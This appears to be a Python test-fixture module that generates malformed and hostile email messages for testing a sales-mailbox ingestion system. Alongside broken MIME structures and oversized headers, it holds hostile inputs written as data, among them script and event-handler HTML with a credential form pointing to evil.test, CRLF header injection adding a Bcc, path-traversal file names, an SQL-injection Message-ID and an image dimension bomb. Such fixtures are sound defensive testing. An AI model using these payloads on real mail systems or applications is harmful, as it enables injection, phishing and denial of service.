"""Mail as nobody should write it, and as it arrives nevertheless. Plain Python.

``CASES`` names each kind and the function that makes its bytes. All are from Jan to the sales
mailbox where the kind leaves a From and a To at all.
"""

import base64
from collections.abc import Callable

CASES: dict[str, Callable[[], bytes]] = {}
FROM = b"From: Jan Kowalski <jan@customer.test>"
TO = b"To: sales@company.test"
DATE = b"Date: Mon, 02 Nov 2026 10:15:00 +0100"
TEXT = b"Good morning,\r\nhow much is a window?\r\n"
PNG = base64.b64decode(
    b"iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJg"
    b"gg=="
)


def case(function):
    """Add a function that returns the bytes of a mail."""
    CASES[function.__name__] = function
    return function


def mail(*headers: bytes, body: bytes = TEXT, name: str = "", **standard: bytes | None) -> bytes:
    """Return a mail with the standard headers, ``headers`` after them, and ``body``.

    :param standard: ``sender``, ``to``, ``date``, ``subject``, ``message_id``: a whole header line
        instead of the standard one, None for none.
    """
    lines = {
        "sender": FROM,
        "to": TO,
        "date": DATE,
        "subject": f"Subject: A question {name}".strip().encode(),
        "message_id": f"Message-ID: <hostile-{name}@customer.test>".encode(),
    }
    head = [line for line in (lines | standard).values() if line is not None]
    return b"\r\n".join([*head, *headers]) + b"\r\n\r\n" + body


def multipart(*parts: bytes, kind: bytes = b"mixed", boundary: bytes = b"=_b", end=True) -> bytes:
    """Return a body: its parts, each with headers of its own, between boundaries."""
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
    return body + (b"--" + boundary + b"--\r\n" if end else b"")


def mixed(*parts: bytes, name: str, kind: bytes = b"mixed", **kwargs) -> bytes:
    """Return a multipart mail."""
    content_type = b'Content-Type: multipart/%s; boundary="=_b"' % kind
    return mail(b"MIME-Version: 1.0", content_type, body=multipart(*parts, **kwargs), name=name)


def part(content: bytes, content_type: bytes = b"text/plain; charset=utf-8", *headers) -> bytes:
    """Return a part with headers of its own."""
    return b"\r\n".join([b"Content-Type: " + content_type, *headers]) + b"\r\n\r\n" + content


def attachment(file_name: bytes, content=b"%PDF-1.4", kind=b"application/octet-stream") -> bytes:
    """Return a part that is a file; ``file_name`` is the parameter as it stands in the header."""
    return part(
        base64.encodebytes(content).replace(b"\n", b"\r\n"),
        kind,
        b"Content-Transfer-Encoding: base64",
        b"Content-Disposition: attachment; " + file_name,
    )


def add(name: str, *headers: bytes, **kwargs) -> None:
    """Add a mail that differs by its headers or its body alone."""
    CASES[name] = lambda: mail(*headers, name=name, **kwargs)


def add_text(name: str, content: bytes, content_type: bytes, encoding: bytes = b"8bit") -> None:
    """Add a mail of one text."""
    add(
        name,
        b"MIME-Version: 1.0",
        b"Content-Type: " + content_type,
        b"Content-Transfer-Encoding: " + encoding,
        body=content,
    )


# ---- STRUCTURE ----


@case
def deep_multiparts() -> bytes:
    """Parts in parts, 10,000 levels."""
    levels = 10_000
    head = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (level, level)
        for level in range(levels)
    )
    return mail(name="deep_multiparts")[: -len(TEXT) - 2] + head + part(TEXT)


@case
def deep_multiparts_closed() -> bytes:
    """Parts in parts, 300 levels, each closed."""
    body = part(TEXT)
    for level in range(300):
        boundary = b"b%d" % level
        kind = b'multipart/mixed; boundary="%s"' % boundary
        body = part(multipart(body, boundary=boundary), kind)
    return mail(name="deep_multiparts_closed")[: -len(TEXT) - 2] + body


@case
def many_attachments() -> bytes:
    """A mail with 1,000 files."""
    files = [attachment(b'filename="file-%d.txt"' % number, b"x") for number in range(1000)]
    return mixed(part(TEXT), *files, name="many_attachments")


@case
def large_attachment() -> bytes:
    """A mail of more than 25 MB."""
    content = bytes(range(256)) * (19 * 4096)
    return mixed(part(TEXT), attachment(b'filename="film.bin"', content), name="large_attachment")


@case
def nested_messages() -> bytes:
    """A mail in a mail, 50 levels."""
    body = mail(name="innermost")
    for _level in range(50):
        body = part(body, b"message/rfc822")
        body = b"Subject: Outer\r\nFrom: x@customer.test\r\n" + body
    return mixed(
        part(TEXT),
        part(body, b"message/rfc822", b'Content-Disposition: attachment; filename="a.eml"'),
        name="nested_messages",
    )


@case
def nested_messages_without_text() -> bytes:
    """A mail that consists of another one, 400 levels."""
    body = mail(name="nested_messages_without_text")
    return b"".join([body[: -len(TEXT) - 2], b"Content-Type: message/rfc822\r\n\r\n" * 400, body])


BROKEN_MULTIPARTS = {
    "boundary_missing": b"Content-Type: multipart/mixed",
    "boundary_empty": b'Content-Type: multipart/mixed; boundary=""',
    "boundary_other": b'Content-Type: multipart/mixed; boundary="other"',
    "boundary_not_ascii": 'Content-Type: multipart/mixed; boundary="zażółć"'.encode(),
    "boundary_long": b'Content-Type: multipart/mixed; boundary="%s"' % (b"b" * 100_000),
    "boundary_pattern": b'Content-Type: multipart/mixed; boundary="(a+)+$["',
}
for key, header in BROKEN_MULTIPARTS.items():
    add(key, b"MIME-Version: 1.0", header, body=multipart(part(TEXT), attachment(b'filename="a"')))
CASES["boundary_never_closed"] = lambda: mixed(
    part(TEXT), attachment(b'filename="a"'), end=False, name="boundary_never_closed"
)
CASES["boundary_of_parent_again"] = lambda: mixed(
    part(multipart(part(TEXT)), b'multipart/mixed; boundary="=_b"'),
    attachment(b'filename="a"'),
    name="boundary_of_parent_again",
)
CASES["multipart_empty"] = lambda: mixed(name="multipart_empty")
CASES["multipart_cut_in_a_part"] = lambda: mixed(
    part(TEXT), attachment(b'filename="a"'), name="multipart_cut_in_a_part"
)[:-40]
CASES["multipart_transfer_encoded"] = lambda: mail(
    b"MIME-Version: 1.0",
    b'Content-Type: multipart/mixed; boundary="=_b"',
    b"Content-Transfer-Encoding: base64",
    body=base64.encodebytes(multipart(part(TEXT))),
    name="multipart_transfer_encoded",
)
add("content_type_twice", b"Content-Type: text/html", b"Content-Type: text/plain")
for key, kind in {
    "content_type_empty": b"",
    "content_type_no_slash": b"text",
    "content_type_garbage": b"///;;;===",
    "content_type_any": b"*/*",
    "content_type_unknown": b"foo/bar",
    "content_type_image_alone": b"image/png",
    "content_type_long": b"text/plain; " + b"x=y; " * 50_000,
    "text_directory": b"text/x-vcard; charset=utf-8",
}.items():
    add_text(key, TEXT, kind)
add_text("single_attachment", b"JVBERi0xLjQ=", b"application/pdf", b"base64")
add_text("single_text_with_name", TEXT, b'text/plain; name="x.txt"')
CASES["empty"] = lambda: b""
CASES["one_newline"] = lambda: b"\r\n"
CASES["only_headers"] = lambda: mail(name="only_headers", body=b"")
CASES["only_headers_without_end"] = lambda: mail(name="only_headers_without_end", body=b"")[:-4]
CASES["only_body"] = lambda: b"\r\nNothing but a text.\r\n"
CASES["no_header_at_all"] = lambda: b"Nothing but a text without any blank line"
CASES["binary_noise"] = lambda: bytes(range(256)) * 64
CASES["nul_bytes"] = lambda: b"\0" * 10_000
CASES["mbox_line_first"] = lambda: b"From jan@customer.test Mon Nov  2 10:15:00 2026\r\n" + mail(
    name="mbox_line_first"
)
CASES["carriage_returns_only"] = lambda: mail(name="carriage_returns_only").replace(b"\r\n", b"\r")
CASES["newlines_only"] = lambda: mail(name="newlines_only").replace(b"\r\n", b"\n")

# ---- TEXT ----

POLISH = "Zażółć gęślą jaźń. "
CHARSETS = {
    "utf-16": POLISH,
    "utf-16-le": POLISH,
    "utf-32": POLISH,
    "utf-7": POLISH,
    "gb18030": "窗户多少钱？",
    "big5": "窗戶",
    "koi8-r": "Сколько стоит окно?",
    "iso-2022-jp": "窓はいくらですか",
    "shift_jis": "窓はいくらですか",
    "euc-kr": "창문은 얼마입니까",
    "windows-1250": POLISH,
    "iso-8859-2": POLISH,
}
for charset, text in CHARSETS.items():
    add_text(f"charset_{charset}", text.encode(charset), f"text/plain; charset={charset}".encode())
    add_text(
        f"charset_{charset}_base64",
        base64.encodebytes(text.encode(charset)),
        f"text/plain; charset={charset}".encode(),
        b"base64",
    )
for key, charset in {
    "unknown": b"x-unknown-9",
    "quoted_oddly": b"'utf-8'",
    "empty": b"",
    "long": b"x" * 50_000,
    "not_ascii": "ż".encode(),
    "with_nul": b"utf\0-8",
    "codec_not_of_text": b"base64_codec",
    "rot13": b"rot13",
    "undefined": b"undefined",
    "idna": b"idna",
    "unicode_escape": b"unicode_escape",
    "path": b"../../etc/passwd",
    "rfc2231": b"\"utf-8'en'x\"",
}.items():
    add_text(f"charset_{key}", POLISH.encode(), b"text/plain; charset=" + charset)
add_text("charset_wrong", POLISH.encode("windows-1250"), b"text/plain; charset=utf-8")
add_text("charset_wrong_utf16", b"odd", b"text/plain; charset=utf-16")
add_text("charset_ascii_but_is_not", POLISH.encode(), b"text/plain; charset=us-ascii")
add_text("charset_of_html_unknown", b"<p>Hi</p>", b"text/html; charset=x-unknown-9")
CASES["charset_of_part_unknown"] = lambda: mixed(
    part(TEXT, b"text/plain; charset=x-unknown-9"),
    attachment(b'filename="a.txt"', kind=b"text/plain; charset=x-unknown-8"),
    name="charset_of_part_unknown",
)
add_text("surrogates_in_utf7", b"a +2AA- b +3AA-", b"text/plain; charset=utf-7")
add_text("nul_in_text", b"one\0two", b"text/plain; charset=utf-8")
add_text("nul_in_html", b"<p>one\0two&#0;&#x0;</p>", b"text/html; charset=utf-8")
add_text("escape_codes", b"\x1b[2J\x1b]0;title\x07 \x7f \x9b", b"text/plain; charset=latin-1")
add_text("format_flowed", b"a line \r\nthat flows \r\n", b"text/plain; format=flowed; delsp=yes")
add_text("base64_garbage", b"!!!! R29v ZCBt@@@ ===== b3JuaW5n\r\n=", b"text/plain", b"base64")
add_text("base64_cut", b"R29vZCBtb3JuaW5nR", b"text/plain; charset=utf-8", b"base64")
add_text("quoted_printable_cut", b"Za=C5=BC=C3=B3=C5=", b"text/plain", b"quoted-printable")
add_text("quoted_printable_garbage", b"=ZZ =\0 =  \r\n===", b"text/plain", b"quoted-printable")
add_text("uuencoded", b"begin 644 a\r\n#0V%T\r\n`\r\nend\r\n", b"text/plain", b"x-uuencode")
add_text("uuencoded_garbage", b"begin 644\r\n\xff\xff", b"text/plain", b"uuencode")
add_text("transfer_encoding_unknown", TEXT, b"text/plain", b"x-own")
add_text("line_of_10_mb", b"x" * 10_000_000, b"text/plain")
add_text("html_5_mb", b"<p>Windows and <b>doors</b></p>\r\n" * 160_000, b"text/html; charset=utf-8")
add_text("html_deep", b"<div>" * 20_000 + b"Hi", b"text/html")
add_text("html_empty", b"", b"text/html")
add_text("html_comment_only", b"<!-- x -->", b"text/html")
add_text("html_not_closed", b"<p", b"text/html")
add_text("html_many_attributes", b"<p " + b'a="1" ' * 50_000 + b">Hi</p>", b"text/html")
add_text("html_declares_utf16", b'<?xml version="1.0" encoding="utf-16"?><p>Hi</p>', b"text/html")
ACTIVE_HTML = (
    b"<html><head><meta http-equiv=refresh content='0;url=http://evil.test'><base href=//evil.test>"
    b"</head><body onload=alert(1)><script>alert(1)</script><iframe src=//evil.test></iframe>"
    b"<form action=//evil.test><input name=password></form><svg onload=alert(1)></svg>"
    b"<a href='javascript:alert(1)'>x</a><img src=x onerror=alert(1)><object data=//evil.test>"
    b"</object><style>@import '//evil.test'</style>Hello</body></html>"
)
add_text("html_active", ACTIVE_HTML, b"text/html; charset=utf-8")

# ---- HEADERS ----

for key, value in {
    "nul_encoded": b"=?utf-8?q?one=00two?=",
    "newline_encoded": b"=?utf-8?q?one=0D=0ABcc:_x@evil.test?=",
    "nul_raw": b"one\0two",
    "carriage_return_raw": b"one\rtwo\r",
    "eight_bit_raw": b"Za\xbf\xf3\xb3\xe6",
    "utf8_raw": POLISH.encode(),
    "empty_word": b"=?utf-8?q??= =?utf-8?b??=",
    "broken_words": b"=?utf-8?b?!!!?= =?utf-8?x?abc?= =?utf-8?q?=ZZ?= =?",
    "charset_unknown": b"=?x-unknown-9?q?Hello?=",
    "charset_not_of_text": b"=?base64_codec?q?Hello?= =?idna?q?xn--a?= =?punycode?b?YQ==?=",
    "surrogate": b"=?utf-7?q?+2AA-?= =?utf-16?b?2AA=?=",
    "direction": b"=?utf-8?q?=E2=80=AEtxt.exe?=",
    "emoji": "🪟🪟🪟".encode(),
    "many_words": b" ".join([b"=?utf-8?q?window?="] * 5000),
    "only_marks": b"Re: " * 20_000,
    "brackets": b"[" * 100_000,
    "one_mb": b"window " * 150_000,
    "one_mb_folded": b"window\r\n " * 130_000,
    "one_mb_word": b"x" * 1_000_000,
    "one_mb_encoded": b"=?utf-8?q?" + b"=C5=BC" * 160_000 + b"?=",
    "missing": None,
}.items():
    add(f"subject_{key}", subject=value if value is None else b"Subject: " + value)
add("subject_twice", b"Subject: The second one")

for key, value in {
    "year_1": b"Mon, 01 Jan 0001 00:00:00 +0000",
    "year_9999": b"Fri, 31 Dec 9999 23:59:59 -1200",
    "year_99999": b"Fri, 31 Dec 99999 23:59:59 +0000",
    "zone_huge": b"Mon, 02 Nov 2026 10:15:00 -9999",
    "zone_negative": b"Mon, 02 Nov 2026 10:15:00 --0100",
    "zone_named": b"Mon, 02 Nov 2026 10:15:00 CEST (Central European Summer Time)",
    "rfc850": b"Monday, 02-Nov-26 10:15:00 GMT",
    "asctime": b"Mon Nov  2 10:15:00 2026",
    "february_30": b"Fri, 30 Feb 2026 25:61:61 +0100",
    "number": b"99999999999999999999999999999999",
    "words": b"yesterday at noon",
    "empty": b"",
    "garbage": b"\xff\xfe\0\x01",
    "long": b"1 " * 20_000,
    "missing": None,
}.items():
    add(f"date_{key}", date=value if value is None else b"Date: " + value)
add("date_twice", b"Date: Tue, 03 Nov 2026 10:15:00 +0100")

for key, value in {
    "missing": None,
    "empty": b"",
    "several": b"a@customer.test, Jan <jan@customer.test>, c@customer.test",
    "no_address": b"Jan Kowalski",
    "group": b"undisclosed-recipients:;",
    "group_of_two": b"Team: a@customer.test, b@customer.test;",
    "only_brackets": b"<>",
    "two_at_signs": b"jan@kowalski@customer.test",
    "no_domain": b"jan@",
    "quoted_local": b'"jan kowalski"@customer.test',
    "comments": b"jan(ignore)@(me)customer.test (Jan (the) K)",
    "open_comment": b"jan@customer.test ((((((",
    "open_quote": b'"Jan <jan@customer.test>',
    "idn": "Jan <jan@żółw.test>".encode(),
    "idn_local": "Jan <żółw@żółw.test>".encode(),
    "emoji": "🪟 <🪟@customer.test>".encode(),
    "encoded_address": b"=?utf-8?q?Jan_=3Cjan=40customer.test=3E?=",
    "encoded_newline": b"=?utf-8?q?Jan=0D=0ABcc:_x@evil.test?= <jan@customer.test>",
    "encoded_nul": b"=?utf-8?q?Jan=00?= <jan@customer.test>",
    "nul_raw": b"Jan\0 <jan\0@customer.test>",
    "eight_bit": b"Za\xbf\xf3\xb3\xe6 <jan@customer.test>",
    "name_is_other_address": b'"boss@company.test" <jan@customer.test>',
    "direction": "\u202ekcirt <jan@customer.test>".encode(),
    "unknown_charset": b"=?x-unknown-9?q?Jan?= <jan@customer.test>",
    "markup": b'"<script>alert(1)</script>" <jan@customer.test>',
    "long": b'"' + b"Jan " * 30_000 + b'" <jan@customer.test>',
    "long_address": b"j" * 5000 + b"@customer.test",
    "dots": b"j..a..n.@customer..test",
    "source_route": b"<@a.test,@b.test:jan@customer.test>",
    "ip": b"jan@[192.0.2.1]",
    "semicolons": b"jan@customer.test; eva@customer.test",
}.items():
    add(f"from_{key}", sender=value if value is None else b"From: " + value)
add("from_twice", b"From: eva@customer.test")

for key, value in {
    "missing": None,
    "empty": b"",
    "undisclosed": b"undisclosed-recipients:;",
    "nobody": b"<>",
    "open_group": b"Team: a@x.test, b@x.test",
    "5000": b",\r\n ".join(b"u%d@customer.test" % number for number in range(5000)),
    "5000_named": b", ".join(
        b'"User, %d" <u%d@customer.test>' % (number, number) for number in range(5000)
    ),
    "commas": b"," * 100_000,
    "emoji": "🪟 <🪟@customer.test>, żółw@żółw.test".encode(),
    "nul": b"a\0@x.test",
}.items():
    add(f"to_{key}", to=value if value is None else b"To: " + value)
add(
    "cc_5000",
    b"Cc: " + b",\r\n ".join(b"User %d <u%d@customer.test>" % (n, n) for n in range(5000)),
)
add("cc_100_headers", *[b"Cc: u%d@customer.test" % number for number in range(100)])
add("reply_to_garbage", b"Reply-To: ,;:<>@\"'(", b"Sender: <<>>", b"Return-Path: <><>")

for key, value in {
    "missing": None,
    "empty": b"",
    "blank": b"   ",
    "no_brackets": b"no-brackets@customer.test",
    "spaces": b"<with some spaces@customer.test>",
    "two": b"<one-of-two@customer.test> <two-of-two@customer.test>",
    "5000": b"<" + b"x" * 5000 + b"@customer.test>",
    "5000_blank": b"x " * 2500,
    "not_ascii": "<żółw@customer.test>".encode(),
    "eight_bit": b"<\xff\xfe@customer.test>",
    "nul": b"<nul\0nul@customer.test>",
    "folded": b"\r\n <folded@customer.test>",
    "percent": b"<%s%d{0}\\_%@customer.test>",
    "quote": b"<'; DROP TABLE crm_lead; --@customer.test>",
    "encoded": b"=?utf-8?q?=3Cencoded=40customer.test=3E?=",
    "open": b"<open@customer.test",
}.items():
    add(f"id_{key}", message_id=value if value is None else b"Message-ID: " + value)
add("id_twice", b"Message-ID: <the-second-id@customer.test>")
REFERENCES = b"\r\n ".join(b"<ref-%d@customer.test>" % number for number in range(4500))
add("references_100_kb", b"References: " + REFERENCES)
add("references_garbage", b"References: <<<>>> < > \0 \xff <a b@c>", b"In-Reply-To: <")
add("references_itself", b"References: <hostile-references_itself@customer.test>")
add("references_words", b'In-Reply-To: Your message of "Mon, 2 Nov 2026" <a@b.test>')
add("headers_10000", *[b"X-Header-%d: value %d" % (number, number) for number in range(10_000)])
add("header_1_mb", b"X-Large: " + b"x" * 1_000_000)
add("header_1_mb_folded", b"X-Large: " + b"x" * 70 + (b"\r\n " + b"x" * 70) * 14_000)
add("header_without_colon", b"Thisisnoheader", b"X-After: yes")
add("header_name_odd", b"X Header With Spaces: 1", b": no name", "X-Żółw: 1".encode(), b"\xff: 1")
add("header_continuation_first", subject=b" continued: nothing")
add("received_60", *[b"Received: from a%d by b%d; %s" % (n, n, DATE[6:]) for n in range(60)])
add("received_5000", *[b"Received: from a by b; x"] * 5000)
add(
    "resent",
    b"Resent-From: eva@other.test",
    b"Resent-To: sales@company.test",
    b"Resent-Date: nonsense",
    b"Resent-Message-ID: <resent@other.test>",
)
add(
    "mime_version_odd", b"MIME-Version: 9.9 (\xff", b"Content-Transfer-Encoding: =?x?", body=b"\xff"
)
add("content_headers_garbage", b"Content-Disposition: \xff; =; filename*0*=x''%", b"Content-ID: <")
add("line_separators", subject="Subject: one\u2028two\x85three\x0bfour\x0cfive".encode())

# ---- FILES ----

FILE_NAMES = {
    "path": b'filename="../../etc/passwd"',
    "path_windows": rb'filename="..\\..\\windows\\win.ini"',
    "path_absolute": b"filename=/etc/passwd",
    "5000": b'filename="' + b"x" * 5000 + b'.txt"',
    "5000_not_ascii": b'filename="' + "ż".encode() * 5000 + b'.txt"',
    "direction": b"filename*=utf-8''%E2%80%AEtxt.exe",
    "nul": b'filename="a\0.txt"',
    "nul_encoded": b"filename*=utf-8''a%00.txt",
    "newline_encoded": b"filename*=utf-8''a%0D%0AX-Evil:%20yes",
    "continued": b'filename*0="plan "; filename*1*=utf-8\'\'%C5%BC; filename*2=".pdf"',
    "continued_late": b'filename*9="b.pdf"; filename*1="a"',
    "charset_unknown": b"filename*=x-unknown-9''%FF.txt",
    "word": b'filename="=?utf-8?b?xbzDs8WCdy50eHQ=?="',
    "word_unknown": b'filename="=?x-unknown-9?q?a?="',
    "empty": b'filename=""',
    "dot": b'filename=".."',
    "eight_bit": b'filename="\xbf\xf3.txt"',
    "markup": b'filename="<img src=x onerror=alert(1)>.html"',
    "surrogate": b"filename*=utf-16''%00%D8",
    "unclosed": b'filename="a.txt',
}
for key, file_name in FILE_NAMES.items():
    CASES[f"file_{key}"] = lambda key=key, file_name=file_name: mixed(
        part(TEXT), attachment(file_name), name=f"file_{key}"
    )
CASES["file_same_name"] = lambda: mixed(
    part(TEXT), *[attachment(b'filename="a.txt"', b"%d" % n) for n in range(5)], name="file_same"
)
CASES["file_html_and_svg"] = lambda: mixed(
    part(TEXT),
    attachment(b'filename="a.html"', ACTIVE_HTML, b"text/html"),
    attachment(b'filename="a.svg"', b"<svg onload='alert(1)'/>", b"image/svg+xml"),
    attachment(b'filename="a.xhtml"', b"<script>alert(1)</script>", b"application/xhtml+xml"),
    attachment(b'filename="a.png"', ACTIVE_HTML, b"image/png"),
    name="file_html_and_svg",
)
CASES["file_of_text_with_surrogates"] = lambda: mixed(
    part(TEXT),
    attachment(b'filename="a.txt"', b"+2AA-\0", b"text/plain; charset=utf-7"),
    name="file_of_text_with_surrogates",
)
CASES["file_of_unknown_kind"] = lambda: mixed(
    part(TEXT),
    attachment(b'filename="a.stp"', kind=b"model/step"),
    attachment(b'filename="a.ttf"', kind=b"x-font/ttf; charset=x-unknown-9"),
    name="file_of_unknown_kind",
)
CASES["file_type_garbage"] = lambda: mixed(
    part(TEXT), attachment(b'filename="a"', kind=b"///"), name="file_type_garbage"
)
CASES["file_base64_garbage"] = lambda: mixed(
    part(TEXT),
    part(b"!!!\xff=A", b"image/png", b"Content-Transfer-Encoding: base64", b'Content-ID: <a">'),
    name="file_base64_garbage",
)
CASES["picture_bomb"] = lambda: mixed(
    part(b"<img src='cid:a'>", b"text/html"),
    part(
        base64.encodebytes(PNG[:16] + b"\xff\xff\xff\x7f\xff\xff\xff\x7f" + PNG[24:]),
        b'image/png; name="a.png"',
        b"Content-Transfer-Encoding: base64",
        b"Content-ID: <a>",
    ),
    kind=b"related",
    name="picture_bomb",
)

# ---- KINDS OF MAIL ----

CALENDAR = (
    b"BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:1\r\nDTSTART:20261103T100000Z\r\n"
    b"SUMMARY:Measuring\r\nORGANIZER:mailto:jan@customer.test\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
)
add_text("calendar_alone", CALENDAR, b"text/calendar; method=REQUEST; charset=utf-8")
CASES["calendar"] = lambda: mixed(
    part(TEXT),
    part(CALENDAR, b"text/calendar; method=REQUEST; charset=utf-8"),
    kind=b"alternative",
    name="calendar",
)
CASES["smime_signed"] = lambda: mixed(
    part(TEXT),
    attachment(b'filename="smime.p7s"', b"0\x80\x06", b"application/pkcs7-signature"),
    kind=b'signed; protocol="application/pkcs7-signature"; micalg=sha-256',
    name="smime_signed",
)
add_text(
    "smime_encrypted",
    base64.encodebytes(b"0\x82" + bytes(200)),
    b'application/pkcs7-mime; smime-type=enveloped-data; name="smime.p7m"',
    b"base64",
)
CASES["pgp"] = lambda: mixed(
    part(b"Version: 1", b"application/pgp-encrypted"),
    part(b"-----BEGIN PGP MESSAGE-----\r\n\r\nhQ==\r\n-----END PGP MESSAGE-----", b"application/x"),
    kind=b'encrypted; protocol="application/pgp-encrypted"',
    name="pgp",
)
CASES["tnef"] = lambda: mixed(
    part(TEXT),
    attachment(b'filename="winmail.dat"', b"\x78\x9f\x3e\x22" + bytes(64), b"application/ms-tnef"),
    name="tnef",
)
add_text(
    "partial", b"Subject: Half\r\n\r\nA half", b'message/partial; id="a"; number=1; total=99999999'
)
add_text(
    "external_body",
    b"Content-Type: image/png\r\n\r\n",
    b'message/external-body; access-type=local-file; name="/etc/passwd"',
)
CASES["external_body_part"] = lambda: mixed(
    part(TEXT),
    part(b"Content-Type: image/png\r\n\r\n", b"message/external-body; access-type=URL"),
    name="external_body_part",
)
CASES["message_with_transfer_encoding"] = lambda: mixed(
    part(TEXT),
    part(
        base64.encodebytes(mail(name="inner")),
        b"message/rfc822",
        b"Content-Transfer-Encoding: base64",
    ),
    name="message_with_transfer_encoding",
)
CASES["message_empty"] = lambda: mixed(
    part(TEXT), part(b"", b"message/rfc822"), name="message_empty"
)
CASES["digest"] = lambda: mixed(
    b"\r\n" + mail(name="one"), b"\r\n" + mail(name="two"), kind=b"digest", name="digest"
)
DELIVERY_STATUS = {
    "postfix": b"Reporting-MTA: dns; mx.test\r\n\r\nFinal-Recipient: rfc822; x@customer.test\r\n"
    b"Action: failed\r\nStatus: 5.1.1\r\n",
    "exchange": b"Reporting-MTA: dns;EX.test\r\n\r\nFinal-recipient: RFC822;x@customer.test\r\n"
    b"Action: failed\r\nStatus: 5.1.10\r\nX-Supplementary-Info: <x>\r\n",
    "no_recipient": b"Reporting-MTA: dns; mx.test\r\n\r\n",
    "recipient_without_type": b"Reporting-MTA: dns; mx.test\r\n\r\nFinal-Recipient: x\r\n",
    "empty": b"",
    "garbage": b"\xff\0\r\n\r\n::\r\n\r\n: :",
}
for key, status in DELIVERY_STATUS.items():
    for carried in (b"message/rfc822", b"text/rfc822-headers", b""):
        suffix = carried.partition(b"/")[2].decode() or "alone"
        original = [part(mail(name="never-sent"), carried)] if carried else []
        CASES[f"report_{key}_{suffix}"] = (
            lambda key=key, status=status, original=original, suffix=suffix: mixed(
                part(b"It was not delivered.\r\n"),
                part(status, b"message/delivery-status"),
                *original,
                kind=b"report; report-type=delivery-status",
                name=f"report_{key}_{suffix}",
            )
        )
CASES["report_of_qmail"] = lambda: mail(
    sender=b"From: MAILER-DAEMON@mx.test",
    subject=b"Subject: failure notice",
    body=b"Hi. This is the qmail-send program.\r\n<x@customer.test>:\r\nNo such user.\r\n",
    name="report_of_qmail",
)
CASES["report_empty"] = lambda: mixed(kind=b"report", name="report_empty")
CASES["report_not_multipart"] = lambda: mail(
    b"Content-Type: multipart/report; report-type=delivery-status", name="report_not_multipart"
)
CASES["report_message_empty"] = lambda: mixed(
    part(b"It was not delivered.\r\n"),
    part(b"", b"message/rfc822"),
    kind=b"report",
    name="report_m",
)
CASES["read_receipt"] = lambda: mixed(
    part(b"It was read.\r\n"),
    part(b"Final-Recipient: rfc822;x@customer.test\r\n", b"message/disposition-notification"),
    kind=b"report; report-type=disposition-notification",
    name="read_receipt",
)
CASES["feedback_report"] = lambda: mixed(
    part(b"Spam!\r\n"),
    part(b"Feedback-Type: abuse\r\n", b"message/feedback-report"),
    part(mail(name="complained"), b"message/rfc822"),
    kind=b"report; report-type=feedback-report",
    name="feedback_report",
)
